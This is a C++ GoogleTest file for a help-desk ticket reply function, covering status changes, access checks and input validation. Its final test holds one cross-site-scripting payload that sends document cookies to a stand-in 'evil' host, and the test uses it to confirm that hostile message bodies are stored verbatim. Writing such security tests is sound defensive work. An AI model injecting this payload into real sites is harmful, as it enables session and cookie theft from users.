#include "tickets/reply.h"

#include <gtest/gtest.h>

#include "core/errors.h"
#include "tickets/change_status.h"
#include "tickets/get_ticket.h"
#include "tickets/merge.h"
#include "tickets/tickets_test_support.h"

namespace rampart::tickets {
namespace {

using testing::TicketsTest;

class ReplyTest : public TicketsTest {
 protected:
  // Expects `request` by `actor` to throw E, and nothing to change.
  template <typename E>
  void ExpectRefused(const auth::Actor& actor, const ReplyRequest& request) {
    const std::string before = Fingerprint();
    EXPECT_THROW(Reply(actor, *db_, request, Tick()), E);
    EXPECT_EQ(Fingerprint(), before);
  }
};

TEST_F(ReplyTest, FirstStaffReplySetsFirstResponseOnce) {
  const std::string number = Open(ana_);
  const std::int64_t first = Tick();
  Reply(sam_, *db_, {number, "Have you tried turning it off and on?", std::nullopt}, first);
  Reply(sam_, *db_, {number, "Any news?", std::nullopt}, Tick());
  const TicketView view = GetTicket(sam_, *db_, number);
  EXPECT_EQ(view.first_response_at, first);
  EXPECT_EQ(view.last_message_at, view.updated_at);
  ASSERT_EQ(view.thread.size(), 3U);
  EXPECT_EQ(view.thread[1].author_kind, AuthorKind::kAgent);
  EXPECT_FALSE(view.thread[1].internal);
  ExpectSearchIndexConsistent();
}

TEST_F(ReplyTest, EndUserReplyDoesNotCountAsFirstResponse) {
  const std::string number = Open(ana_);
  Reply(ana_, *db_, {number, "Also the scanner.", std::nullopt}, Tick());
  EXPECT_FALSE(GetTicket(ana_, *db_, number).first_response_at);
}

TEST_F(ReplyTest, EndUserReplyReopensSolvedTicket) {
  const std::string number = Open(ana_);
  Reply(sam_, *db_, {number, "Fixed on our side.", Status::kSolved}, Tick());
  EXPECT_EQ(GetTicket(ana_, *db_, number).status, Status::kSolved);
  EXPECT_TRUE(GetTicket(ana_, *db_, number).solved_at);
  const PostedMessage posted = Reply(ana_, *db_, {number, "Still broken.", std::nullopt}, Tick());
  EXPECT_EQ(posted.status, Status::kOpen);
  EXPECT_FALSE(GetTicket(ana_, *db_, number).solved_at);
}

TEST_F(ReplyTest, EndUserReplyOnPendingTicketMakesItOpen) {
  const std::string number = Open(ana_);
  Reply(sam_, *db_, {number, "Which model?", Status::kPending}, Tick());
  EXPECT_EQ(Reply(ana_, *db_, {number, "The X200.", std::nullopt}, Tick()).status, Status::kOpen);
}

TEST_F(ReplyTest, OrganizationColleagueMayAnswerSharedTicket) {
  const std::string number = Open(ana_);
  EXPECT_NO_THROW(Reply(ben_, *db_, {number, "Same here.", std::nullopt}, Tick()));
}

TEST_F(ReplyTest, EndUserGetsNotFoundReplyingToAnotherUsersTicket) {
  const std::string carls = Open(carl_);
  ExpectRefused<core::NotFound>(ana_, {carls, "Let me in.", std::nullopt});
  ExpectRefused<core::NotFound>(ana_, {"RMP-99999", "Hello?", std::nullopt});
}

TEST_F(ReplyTest, AgentOutsideDepartmentGetsNotFound) {
  const std::string billing = Open(ana_, "Invoice wrong", 2);
  ExpectRefused<core::NotFound>(sam_, {billing, "Looking.", std::nullopt});
  EXPECT_NO_THROW(Reply(rita_, *db_, {billing, "Looking.", std::nullopt}, Tick()));
}

TEST_F(ReplyTest, EndUserCannotSetStatusWithReply) {
  const std::string number = Open(ana_);
  const std::string before = Fingerprint();
  try {
    Reply(ana_, *db_, {number, "Closing.", Status::kClosed}, Tick());
    ADD_FAILURE() << "accepted";
  } catch (const core::Invalid& e) {
    EXPECT_EQ(e.Field(), "status");
  }
  EXPECT_EQ(Fingerprint(), before);
}

TEST_F(ReplyTest, ClosedAndMergedTicketsTakeNoReplies) {
  const std::string closed = Open(ana_);
  ChangeStatus(sam_, *db_, {closed, Status::kClosed}, Tick());
  ExpectRefused<core::Conflict>(ana_, {closed, "Hello again.", std::nullopt});
  ExpectRefused<core::Conflict>(sam_, {closed, "Hello again.", std::nullopt});
  const std::string source = Open(ana_);
  const std::string target = Open(ana_);
  Merge(sam_, *db_, {source, target, false}, Tick());
  ExpectRefused<core::Conflict>(ana_, {source, "Hello?", std::nullopt});
}

TEST_F(ReplyTest, ReadOnlyTokenCannotReply) {
  const std::string number = Open(ana_);
  auth::Actor token = sam_;
  token.channel = auth::Actor::Channel::kApi;
  token.read_only = true;
  ExpectRefused<core::Forbidden>(token, {number, "Hi.", std::nullopt});
}

TEST_F(ReplyTest, HostileBodiesAreRefusedOrStoredVerbatim) {
  const std::string number = Open(ana_);
  ExpectRefused<core::Invalid>(ana_, {number, "", std::nullopt});
  ExpectRefused<core::Invalid>(ana_, {number, std::string(100'001, 'x'), std::nullopt});
  ExpectRefused<core::Invalid>(ana_, {number, "bell \a", std::nullopt});
  ExpectRefused<core::Invalid>(ana_, {number, "bad \xed\xa0\x80 surrogate", std::nullopt});
  const std::string xss = "</textarea><script>document.location='//evil/'+document.cookie</script>";
  Reply(ana_, *db_, {number, xss, std::nullopt}, Tick());
  EXPECT_EQ(GetTicket(ana_, *db_, number).thread.back().body, xss);
}

}  // namespace
}  // namespace rampart::tickets
